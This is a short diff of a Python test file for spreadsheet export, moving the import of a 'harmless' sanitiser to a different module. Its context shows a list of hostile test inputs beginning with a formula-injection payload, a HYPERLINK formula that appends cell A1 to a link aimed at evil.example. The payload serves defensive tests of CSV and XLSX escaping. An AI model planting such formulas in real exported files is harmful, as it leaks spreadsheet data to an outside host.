@@ -10,7 +10,8 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from nastavnik.bank.review.spreadsheets import Sheet, harmless, replacing, write_csv, write_xlsx
+from nastavnik.bank.review.spreadsheets import Sheet, replacing, write_csv, write_xlsx
+from nastavnik.text.csv_table import harmless
 
 NASTY = [
     '=HYPERLINK("http://evil.example/"&A1;"нажми")',
